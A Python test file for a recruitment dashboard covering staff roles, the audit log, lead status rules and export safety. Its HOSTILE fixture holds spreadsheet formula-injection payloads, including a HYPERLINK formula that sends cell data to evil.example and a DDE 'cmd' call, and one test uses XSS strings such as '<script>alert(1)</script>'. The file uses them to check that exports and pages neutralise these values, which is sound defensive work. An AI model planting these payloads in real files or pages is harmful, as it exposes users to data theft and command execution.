"""Roles, the audit log, the status workflow, and stored values that must not break exports or pages."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.models import JobOpening, Lead, StaffAuditEntry
from tests.test_dashboard import (
    ADMIN_EMAIL,
    EMAIL,
    JOB_FORM,
    Dashboard,
    login,
    login_admin,
    open_dashboard,
    post_form,
)


@pytest.fixture
async def dashboard(tmp_path: Path) -> AsyncIterator[Dashboard]:
    async with open_dashboard(tmp_path) as opened:
        yield opened


HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "city": "+cmd|' /C calc'!A0",
    "education": "@SUM(1+1)*cmd",
    "field": "-2+3",
    "route": "\tTAB",
    "source": "\rCR",
}


async def set_lead(dashboard: Dashboard, lead_id: int, **values: str) -> None:
    async with dashboard.repository.session() as session:
        await session.execute(update(Lead).where(Lead.id == lead_id).values(**values))


async def audit_actions(dashboard: Dashboard) -> list[tuple[str, str]]:
    async with dashboard.repository.session() as session:
        rows = await session.execute(select(StaffAuditEntry.actor, StaffAuditEntry.action).order_by(StaffAuditEntry.id))
        return [(a, b) for a, b in rows]


@pytest.mark.parametrize(
    "path",
    [
        "/admin/lead/export/csv",
        "/admin/lead/export/xlsx",
        "/admin/job-opening/export/csv",
        "/admin/staff-user/list",
        "/admin/staff-audit-entry/list",
    ],
)
async def test_recruiters_cannot_export_or_see_accounts_and_audit(dashboard: Dashboard, path: str) -> None:
    await login(dashboard.client)
    response = await dashboard.client.get(path)
    assert response.status_code == 403
    assert "+923001234567" not in response.text


async def test_recruiters_work_leads_statuses_and_openings(dashboard: Dashboard) -> None:
    await login(dashboard.client)
    listing = await dashboard.client.get("/admin/lead/list")
    assert listing.status_code == 200 and "Ali Raza" in listing.text
    assert "export-csv" not in listing.text and "Audit log" not in listing.text and "Staff accounts" not in listing.text
    changed = await post_form(
        dashboard.client, "/admin/leads/1/status", {"status": "contacted", "note": ""}, "/admin/lead/details/1"
    )
    assert changed.status_code == 303  # a note is optional for this step
    created = await post_form(
        dashboard.client, "/admin/job-opening/create", {**JOB_FORM, "is_open": "y"}, "/admin/job-opening/create"
    )
    assert created.status_code == 302


async def test_admins_export_and_read_the_audit_log(dashboard: Dashboard) -> None:
    await login(dashboard.client, "a wrong password")
    await login(dashboard.client)
    await post_form(dashboard.client, "/admin/leads/1/status", {"status": "contacted"}, "/admin/lead/details/1")
    await post_form(
        dashboard.client, "/admin/job-opening/create", {**JOB_FORM, "is_open": "y"}, "/admin/job-opening/create"
    )
    async with dashboard.repository.session() as session:
        job_id = await session.scalar(select(JobOpening.id))
    edit = f"/admin/job-opening/edit/{job_id}"
    await post_form(dashboard.client, edit, {**JOB_FORM, "title": "Senior caregiver"}, edit)
    page = await dashboard.client.get("/admin/job-opening/list")
    token = page.text.split('name="csrf-token" content="', 1)[1].split('"', 1)[0]
    deleted = await dashboard.client.delete(
        f"/admin/job-opening/delete?pks={job_id}", headers={"Origin": "http://localhost:8080", "X-CSRF-Token": token}
    )
    assert deleted.status_code == 200
    await dashboard.client.get("/admin/logout")

    await login_admin(dashboard.client)
    listing = await dashboard.client.get("/admin/lead/list")
    assert "export-csv" in listing.text and "Audit log" in listing.text
    export = await dashboard.client.get("/admin/lead/export/csv", params={"city": "Lahore"})
    assert export.status_code == 200 and "Ali Raza" in export.text
    assert (await dashboard.client.get("/admin/job-opening/export/xlsx")).status_code == 200
    actions = await audit_actions(dashboard)
    for expected in [
        (EMAIL, "login_failed"),
        (EMAIL, "login"),
        (EMAIL, "lead_view"),
        (EMAIL, "status_change"),
        (EMAIL, "job_opening_create"),
        (EMAIL, "job_opening_edit"),
        (EMAIL, "job_opening_delete"),
        (EMAIL, "logout"),
        (ADMIN_EMAIL, "login"),
        (ADMIN_EMAIL, "export"),
    ]:
        assert expected in actions, expected
    log = await dashboard.client.get("/admin/staff-audit-entry/list")
    assert log.status_code == 200
    assert "job_opening_edit" in log.text and "city=Lahore" in log.text and "new → contacted" in log.text
    assert (await dashboard.client.get("/admin/staff-audit-entry/create")).status_code == 403  # read-only


async def test_an_admin_cannot_remove_their_own_account(dashboard: Dashboard) -> None:
    await login_admin(dashboard.client)
    page = await dashboard.client.get("/admin/staff-user/list")
    token = page.text.split('name="csrf-token" content="', 1)[1].split('"', 1)[0]
    async with dashboard.repository.session() as session:
        from bot.models import StaffUser

        own_id = await session.scalar(select(StaffUser.id).where(StaffUser.email == ADMIN_EMAIL))
    refused = await dashboard.client.delete(
        f"/admin/staff-user/delete?pks={own_id}", headers={"Origin": "http://localhost:8080", "X-CSRF-Token": token}
    )
    assert refused.status_code == 403
    assert (await dashboard.client.get("/admin/lead/list")).status_code == 200


@pytest.mark.parametrize(
    ("steps", "refused", "message"),
    [
        ([], ("placed", "done"), "cannot be moved to “placed”"),
        ([], ("qualified", "skipping ahead"), "cannot be moved to “qualified”"),
        ([], ("rejected", "   "), "Please write a note"),
        (
            [("contacted", ""), ("qualified", ""), ("placed", "Started at Sakura Care")],
            ("new", "again"),
            "Allowed: none",
        ),
        ([("rejected", "No passport")], ("contacted", ""), "Please write a note"),
        ([], ("archived", "x"), "is not a status"),
    ],
)
async def test_the_workflow_refuses_what_it_does_not_allow(
    dashboard: Dashboard, steps: list[tuple[str, str]], refused: tuple[str, str], message: str
) -> None:
    await login(dashboard.client)
    for status, note in steps:
        done = await post_form(
            dashboard.client, "/admin/leads/1/status", {"status": status, "note": note}, "/admin/lead/details/1"
        )
        assert done.status_code == 303, status
    status, note = refused
    response = await post_form(
        dashboard.client, "/admin/leads/1/status", {"status": status, "note": note}, "/admin/lead/details/1"
    )
    assert response.status_code == 400 and message in response.text
    assert "Back to the lead" in response.text
    async with dashboard.repository.session() as session:
        current = await session.scalar(select(Lead.status).where(Lead.id == 1))
    assert current == (steps[-1][0] if steps else "new")


async def test_the_lead_page_offers_only_allowed_steps(dashboard: Dashboard) -> None:
    await login(dashboard.client)
    page = await dashboard.client.get("/admin/lead/details/1")
    options = page.text.split('id="status-select"', 1)[1].split("</select>", 1)[0]
    assert 'value="contacted"' in options and 'value="rejected"' in options
    assert 'value="placed"' not in options and 'value="new"' not in options


async def test_exports_never_carry_formulas(dashboard: Dashboard) -> None:
    await set_lead(dashboard, 1, **HOSTILE)
    await set_lead(dashboard, 2, full_name="Sara\x00Khan\x07\x1b", city="Lahore\x0b")
    await login_admin(dashboard.client)
    response = await dashboard.client.get("/admin/lead/export/csv")
    assert response.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(response.text.lstrip("\ufeff")))}
    for column, value in HOSTILE.items():
        assert rows["1"][column] == "'" + value, column
    assert rows["1"]["phone"] == "'+923001234567"
    assert "\x00" not in response.text and rows["2"]["full_name"].startswith("Sara")

    xlsx = await dashboard.client.get("/admin/lead/export/xlsx")
    assert xlsx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        cells = dict(zip(header, row, strict=True))
        assert cells["phone"].data_type == "s" and cells["phone"].value == "+923001234567"
        assert cells["phone"].number_format == "@"
        if cells["id"].value == 1:
            assert cells["full_name"].value == HOSTILE["full_name"] and cells["full_name"].data_type == "s"
        if cells["id"].value == 2:
            assert str(cells["full_name"].value).startswith("Sara")


async def test_job_opening_exports_are_formula_safe(dashboard: Dashboard) -> None:
    async with dashboard.repository.session() as session:
        session.add(JobOpening(title="=1+1", employer="@evil", field="it", japanese_level="n4", location="-x\x00"))
    await login_admin(dashboard.client)
    response = await dashboard.client.get("/admin/job-opening/export/csv")
    [row] = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert (row["title"], row["employer"], row["location"]) == ("'=1+1", "'@evil", "'-x\ufffd")


@pytest.mark.parametrize(
    "city",
    [
        "$x^{$",
        "$\\frac{1}{0}$",
        "</svg><script>alert(1)</script>",
        "a\x00b",
        "--><script>alert(2)</script><!--",
        "x" * 80,
    ],
)
async def test_stored_values_cannot_break_the_overview(dashboard: Dashboard, city: str) -> None:
    await set_lead(dashboard, 1, city=city, field=city)
    await login(dashboard.client)
    page = await dashboard.client.get("/admin/overview")
    assert page.status_code == 200 and page.text.count("<svg") == 5
    assert "<script>alert" not in page.text


async def test_an_admin_changes_a_role_and_it_applies_at_once(dashboard: Dashboard) -> None:
    await login(dashboard.client)
    assert (await dashboard.client.get("/admin/lead/export/csv")).status_code == 403
    from bot.models import StaffUser

    async with dashboard.repository.session() as session:
        recruiter_id = await session.scalar(select(StaffUser.id).where(StaffUser.email == EMAIL))
    transport = dashboard.client._transport
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost:8080") as admin:
        await login_admin(admin)
        edit = f"/admin/staff-user/edit/{recruiter_id}"
        page = await admin.get(edit)
        assert 'name="role"' in page.text and "password_hash" not in page.text
        saved = await post_form(admin, edit, {"role": "admin"}, edit)
        assert saved.status_code == 302
        actions = await audit_actions(dashboard)
        assert (ADMIN_EMAIL, "staff_edit") in actions
    assert (await dashboard.client.get("/admin/lead/export/csv")).status_code == 200


async def test_accounts_from_before_roles_become_admins(tmp_path: Path) -> None:
    from bot.migrations import migrate

    url = f"sqlite:///{tmp_path / 'old.db'}"
    await migrate(url, revision="0002")
    from sqlalchemy import create_engine, text

    engine = create_engine(url)
    with engine.begin() as connection:
        connection.execute(
            text(
                "INSERT INTO staff_users (email, password_hash, failed_logins, created_at) "
                "VALUES ('old@example.org', 'x', 0, '2026-11-01 00:00:00')"
            )
        )
    await migrate(url)
    with engine.connect() as connection:
        role = connection.execute(text("SELECT role FROM staff_users")).scalar_one()
    engine.dispose()
    assert role == "admin"
